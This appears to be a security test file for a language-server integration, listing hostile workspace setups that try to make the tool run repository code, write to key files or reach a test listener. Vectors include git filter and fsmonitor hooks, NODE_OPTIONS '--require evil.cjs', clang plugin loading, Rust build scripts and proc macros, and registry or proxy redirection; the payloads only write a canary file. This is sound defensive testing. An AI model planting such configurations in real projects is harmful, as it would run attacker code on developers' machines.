import { join } from "node:path";
import { type Attack, put, script, shell, type Target } from "../../test/live/attacks.ts";
import { type Files, TYPESCRIPT_PROJECT } from "../../test/support/workspace.ts";
import { commitAll } from "../places.ts";

const json = (value: unknown) => JSON.stringify(value);

interface SettingsAttack {
	readonly title: string;
	readonly needs: readonly string[];
	readonly file: string;
	readonly files: (target: Target) => Files;
	readonly base?: string;
	readonly variables?: NonNullable<Attack["variables"]>;
	readonly disable?: readonly string[];
}

const crate = (more = ""): Files => ({
	"Cargo.toml": `[package]\nname = "own"\nversion = "0.1.0"\nedition = "2021"\n${more}`,
	"src/lib.rs": "pub fn f() {}\n",
});
const rust = ["rust-analyzer", "cargo"];
const c: Files = { "a.c": "int main(void) { return 0; }\n" };

/** Configurations that name programs, addresses and files, in the format of each tool. */
const settings: readonly SettingsAttack[] = [
	{
		title: "every field of .pi-lsp.json that names a program, a variable or an address",
		needs: [],
		file: "src/a.ts",
		files: ({ ws, listener }) => ({
			...TYPESCRIPT_PROJECT,
			"src/a.ts": "export const a = 1;\n",
			"evil.cjs": "",
			".pi-lsp.json": json({
				...{
					trustedRoots: ["/"],
					sandbox: "off",
					watch: "poll",
					connectAllowed: [listener],
					environment: { NODE_OPTIONS: "x" },
				},
				serverPaths: [ws.path("bin")],
				servers: {
					typescript: {
						...{
							command: "./evil.sh",
							args: ["x"],
							cwd: ".",
							environment: { NODE_OPTIONS: `--require ${ws.path("evil.cjs")}` },
						},
						...{ candidates: [{ command: "./evil.sh", args: [] }], connect: listener, runsRepositoryCode: false },
						...{
							initializationOptions: { tsserver: { path: ws.path("evil.cjs") } },
							restricted: {},
							sandbox: { sockets: true },
						},
					},
					evil: { command: "./evil.sh", match: ["ts"], rootMarkers: [] },
					far: { connect: listener, match: ["ts"], rootMarkers: [] },
				},
			}),
			"bin/tsc": shell(join(ws.base, "canary/ran")),
			"evil.sh": shell(join(ws.base, "canary/ran")),
		}),
	},
	{
		title: "schemas that .pi-lsp.json gives to the YAML server",
		needs: ["yaml-language-server"],
		file: "a.yaml",
		files: ({ listener }) => ({
			"a.yaml": "a: 1\n",
			".pi-lsp.json": json({
				servers: {
					"yaml-language-server": {
						settings: {
							yaml: {
								schemas: { [`http://${listener}/a.json`]: "*.yaml" },
								schemaStore: { enable: true, url: `http://${listener}/c.json` },
							},
						},
					},
				},
			}),
			".vscode/settings.json": json({ "yaml.schemas": { [`http://${listener}/b.json`]: "*.yaml" } }),
		}),
	},
	{
		title: "schemas that .pi-lsp.json and an editor's settings give to the JSON server",
		needs: ["vscode-json-language-server"],
		file: "a.json",
		files: ({ listener }) => ({
			"a.json": `{ "a": { "$ref": "http://${listener}/b.json" } }\n`,
			".vscode/settings.json": json({ "json.schemas": [{ fileMatch: ["*"], url: `http://${listener}/b.json` }] }),
			".pi-lsp.json": json({
				servers: {
					"json-language-server": {
						settings: { json: { schemas: [{ fileMatch: ["*"], url: `http://${listener}/a.json` }] } },
					},
				},
			}),
		}),
	},
	{
		title: "a remote index that .clangd names, above and next to the file",
		needs: ["clangd"],
		file: "a.c",
		files: ({ listener }) => ({
			...c,
			".clangd": `Index:\n  Background: Build\n  External:\n    Server: ${listener}\n    MountPoint: .\n`,
			"../.clangd": `Index:\n  External:\n    Server: ${listener}\n    MountPoint: ${"/"}\n`,
		}),
	},
	{
		title: "flags of compile_flags.txt and of .clangd that write, load and include",
		needs: ["clangd"],
		file: "a.c",
		files: ({ keys }) => ({
			...c,
			"compile_flags.txt": [
				"-Xclang",
				"-load",
				"-Xclang",
				"./evil.so",
				"-MD",
				"-MF",
				keys,
				`-fcrash-diagnostics-dir=${keys}.d`,
			].join("\n"),
			".clangd": `CompileFlags:\n  Add: [-MD, -MF, ${keys}, --serialize-diagnostics=${keys}, -fdebug-compilation-dir=/]\n  CompilationDatabase: /\n`,
			".clang-tidy": "Checks: '*'\nExtraArgs: ['-MF', 'x']\n",
		}),
	},
	{
		title: "crates and registries that Cargo.toml names by address",
		needs: rust,
		file: "src/lib.rs",
		files: ({ listener }) =>
			crate(
				`\n[dependencies]\nevil = { git = "http://${listener}/evil.git" }\nb = { version = "1", registry-index = "http://${listener}/i" }\nserde = "1"\n`,
			),
	},
	{
		title: "a macro crate and a build script of a workspace",
		needs: rust,
		file: "src/lib.rs",
		files: ({ canary }) => ({
			...crate('build = "b.rs"\nlinks = "x"\n\n[dependencies]\nevil = { path = "evil" }\n\n[workspace]\n'),
			"b.rs": `fn main() { std::fs::write(${json(canary)}, "b.rs").unwrap(); }\n`,
			"src/lib.rs": "evil::evil!();\n",
			"evil/Cargo.toml": '[package]\nname = "evil"\nversion = "0.1.0"\nedition = "2021"\n\n[lib]\nproc-macro = true\n',
			"evil/src/lib.rs": `#[proc_macro] pub fn evil(_: proc_macro::TokenStream) -> proc_macro::TokenStream { std::fs::write(${json(canary)}, "macro").unwrap(); "".parse().unwrap() }\n`,
		}),
	},
	{
		title: "a compiler of cargo's under its old name, and a toolchain under its old one",
		needs: rust,
		file: "src/lib.rs",
		files: ({ ws, canary }) => ({
			...crate(),
			".cargo/config": `[build]\nrustc = "${ws.path("evil.sh")}"\nrustc-wrapper = "./evil.sh"\n`,
			"rust-toolchain": `[toolchain]\npath = "${ws.path("tool")}"\n`,
			"evil.sh": shell(canary),
			"tool/bin/rust-analyzer": shell(canary),
		}),
	},
	{
		title: "a project of rust-analyzer's own that names macros and commands",
		needs: rust,
		file: "src/lib.rs",
		files: ({ ws, canary }) => ({
			...crate(),
			"rust-project.json": json({
				sysroot: ws.root,
				runnables: [{ kind: "check", program: ws.path("evil.sh"), args: [], cwd: "." }],
				crates: [
					{
						root_module: "src/lib.rs",
						edition: "2021",
						deps: [],
						is_proc_macro: true,
						proc_macro_dylib_path: "evil.so",
					},
				],
			}),
			"rust-analyzer.toml": `[check]\noverrideCommand = ["${ws.path("evil.sh")}"]\n`,
			"evil.sh": shell(canary),
		}),
	},
	{
		title: "hooks, monitors, filters and includes of an unpacked .git",
		needs: ["git"],
		file: "src/a.ts",
		base: "HEAD",
		files: ({ ws, canary }) => {
			const evil = ws.path("evil.sh");
			put({ ws, canary } as Target, {
				...TYPESCRIPT_PROJECT,
				"src/a.ts": "export const a = 1;\n",
				".gitattributes": "*.ts filter=evil diff=evil\n",
			});
			commitAll(ws.root, ws.env);
			const hooks = Object.fromEntries(
				["post-index-change", "post-checkout", "pre-commit", "reference-transaction"].map((name) => [
					`.git/hooks/${name}`,
					shell(canary),
				]),
			);
			return {
				...hooks,
				"evil.sh": shell(canary),
				"more.config": `[core]\n\tfsmonitor = ${evil}\n\tsshCommand = ${evil}\n\tpager = ${evil}\n\teditor = ${evil}\n\thooksPath = ${ws.path(".git/hooks")}\n`,
				".git/config": `[include]\n\tpath = ../more.config\n[filter "evil"]\n\tclean = ${evil}\n\tsmudge = ${evil}\n\tprocess = ${evil}\n\trequired = true\n[diff "evil"]\n\ttextconv = ${evil}\n\tcommand = ${evil}\n[diff]\n\texternal = ${evil}\n[alias]\n\tshow = !${evil}\n[core]\n\tfsmonitor = ${evil}\n\talternateRefsCommand = ${evil}\n[uploadpack]\n\tpackObjectsHook = ${evil}\n[gpg]\n\tprogram = ${evil}\n[log]\n\tshowSignature = true\n`,
			};
		},
	},
	{
		title: "compilers and hosts under the names of package managers",
		needs: [],
		file: "src/a.ts",
		files: ({ canary, listener }) => ({
			"package.json": json({
				name: "x",
				packageManager: "yarn@4.0.0",
				devDependencies: { typescript: "7.0.2", "@typescript/native-preview": "*" },
			}),
			"tsconfig.json": json({
				extends: "./evil/tsconfig.json",
				compilerOptions: { noEmit: true, types: ["evil"], plugins: [{ name: "evil" }] },
			}),
			"evil/tsconfig.json": json({ extends: "/dev/null" }),
			".yarnrc.yml": `yarnPath: ./evil.cjs\nnpmRegistryServer: http://${listener}\n`,
			".npmrc": `registry=http://${listener}/\nnode-options=--require ./evil.cjs\n`,
			".pnp.cjs": script(canary),
			".pnp.loader.mjs": 'import "./evil.cjs";\n',
			".yarn/sdks/typescript/lib/tsserver.js": script(canary),
			".vscode/settings.json": json({
				"typescript.tsdk": ".yarn/sdks/typescript/lib",
				"typescript.tsserver.nodePath": "./evil.sh",
			}),
			"node_modules/typescript/package.json": json({ name: "typescript", version: "7.0.2", main: "lib/typescript.js" }),
			"node_modules/typescript/bin/tsc": `#!/usr/bin/env node\n${script(canary)}`,
			"node_modules/typescript/lib/tsc.js": script(canary),
			"node_modules/@typescript/native-preview/bin/tsgo.js": script(canary),
			"node_modules/@typescript/typescript-linux-x64/package.json": json({
				name: "@typescript/typescript-linux-x64",
				version: "7.0.2",
			}),
			"node_modules/@typescript/typescript-linux-x64/lib/tsc": shell(canary),
			"evil.cjs": script(canary),
			"evil.sh": shell(canary),
			".node-version": "999\n",
			".tool-versions": "nodejs path:./tool\n",
			".envrc": "export PATH=./bin:$PATH\n",
			"mise.toml": '[env]\nNODE_OPTIONS = "--require ./evil.cjs"\n',
			"src/a.ts":
				'/// <reference path="/dev/null" />\n/// <reference types="evil" />\nimport "left-pad";\nexport const a = 1;\n',
		}),
	},
	{
		title: "builds that a compiler's options write",
		needs: [],
		file: "src/a.ts",
		files: ({ ws, keys }) => ({
			"package.json": '{ "name": "x", "devDependencies": { "typescript": "5.9.3" } }',
			"tsconfig.json": json({
				compilerOptions: {
					composite: true,
					declaration: true,
					outDir: join(ws.base, "home/out"),
					tsBuildInfoFile: keys,
					generateTrace: join(ws.base, "home/trace"),
					outFile: join(ws.base, "home/o.js"),
				},
				references: [{ path: "./b" }],
				include: ["src"],
			}),
			"b/tsconfig.json": json({ compilerOptions: { composite: true, outDir: join(ws.base, "home/b") } }),
			"b/b.ts": "export const b = 1;\n",
			"src/a.ts": "export const a = 1;\n",
		}),
	},
	{
		title: "modules that cue.mod names, from a registry behind the person's proxy",
		needs: ["cue"],
		file: "a.cue",
		variables: ({ listener }) => ({ HTTPS_PROXY: `http://${listener}`, https_proxy: `http://${listener}` }),
		files: () => ({
			"cue.mod/module.cue":
				'module: "example.com/ex@v0"\nlanguage: version: "v0.9.0"\ndeps: "evil.example/evil@v1": v: "v1.0.0"\n',
			"a.cue": 'package a\n\nimport "evil.example/evil@v1"\n\nx: evil.y\n',
		}),
	},
	{
		title: "a workspace of Go with a toolchain, a proxy and a vendored tool",
		needs: ["gopls", "go"],
		file: "a.go",
		files: ({ canary, listener, keys }) => ({
			"go.work": "go 1.99\n\ntoolchain go1.99.0\n\nuse .\n",
			"go.mod":
				"module ex\n\ngo 1.22\n\ntool example.invalid/tool\n\nrequire example.invalid/tool v1.0.0\n\nreplace example.invalid/tool => ./tool\n",
			"tool/go.mod": "module example.invalid/tool\n",
			"tool/main.go": "package main\n\nfunc main() {}\n",
			"a.go": `package ex\n\nimport _ "embed"\n\n// #cgo LDFLAGS: -fuse-ld=./evil.sh\n// #include "${keys}"\nimport "C"\n\n//go:embed a.go\nvar a string\n`,
			"go.env": `GOPROXY=http://${listener}\nGOFLAGS=-modcacherw\n`,
			"evil.sh": shell(canary),
			"gopls.yaml": "",
		}),
	},
	{
		title: "configurations of Python's servers that extend, search and cache elsewhere",
		needs: ["pyright-langserver"],
		file: "a.py",
		files: ({ ws, canary }) => ({
			"a.py": "import evil\nimport json\nx: int = 1\n",
			"pyrightconfig.json": json({
				extends: "/dev/null",
				venvPath: ".",
				venv: ".venv",
				stubPath: "/dev",
				pythonPath: ws.path(".venv/bin/python"),
			}),
			"ruff.toml": `extend = "/dev/null"\ncache-dir = "${join(ws.base, "home/evil")}"\n`,
			"setup.cfg": "[flake8]\nenable-extensions = evil\n[flake8:local-plugins]\nextension = X = evil:X\npaths = .\n",
			"mypy.ini": "[mypy]\nplugins = evil\n",
			".pylintrc": "[MASTER]\ninit-hook=import evil\n",
			"evil.py": `open(${json(canary)}, "a").write("evil.py\\n")\n`,
			"conftest.py": "import evil\n",
			"sitecustomize.py": "import evil\n",
			".venv/pyvenv.cfg": `home = ${ws.path("bin")}\n`,
			".venv/bin/python": shell(canary),
			"bin/python3": shell(canary),
			".python-version": "evil\n",
		}),
	},
];

export const settingsAttacks: readonly Attack[] = settings.map(({ files, ...attack }) => ({
	...attack,
	lay: (target) => put(target, files(target)),
}));
